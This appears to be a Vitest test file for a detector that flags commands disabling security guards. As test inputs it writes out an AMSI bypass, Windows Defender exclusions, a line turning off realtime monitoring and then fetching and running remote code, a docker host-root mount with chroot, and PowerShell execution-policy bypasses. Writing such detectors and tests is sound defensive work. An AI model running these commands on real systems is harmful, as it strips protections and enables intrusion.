import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-disable-guard.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  [
    'AMSI',
    `[Ref].Assembly.GetType('System.Management.Automation.'+'AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`,
    'scanner',
  ],
  ['an exclusion', 'Add-MpPreference -ExclusionPath C:\\work', 'weakened'],
  [
    'an exclusion for what is fetched',
    'Set-MpPreference -DisableRealtimeMonitoring $true; iex (irm https://a.invalid/x)',
    'scanner',
  ],
  ['a container', 'docker run -v /:/host alpine chroot /host', 'container'],
  ['certificates', 'curl -k https://a.invalid/x', 'unchecked'],
  ['a policy', 'powershell -ep bypass -c Get-Date', 'policy'],
  ['a policy, unseen', 'powershell -w hidden -ep bypass -File a.ps1', 'unseen'],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([
  ['Get-MpPreference'],
  ['docker run -v "$PWD":/src node:24 npm test'],
  ['curl https://a.invalid/x'],
  ['Get-ExecutionPolicy'],
])('innocent: %s', (command) => {
  expect(titles(command)).toEqual([])
})
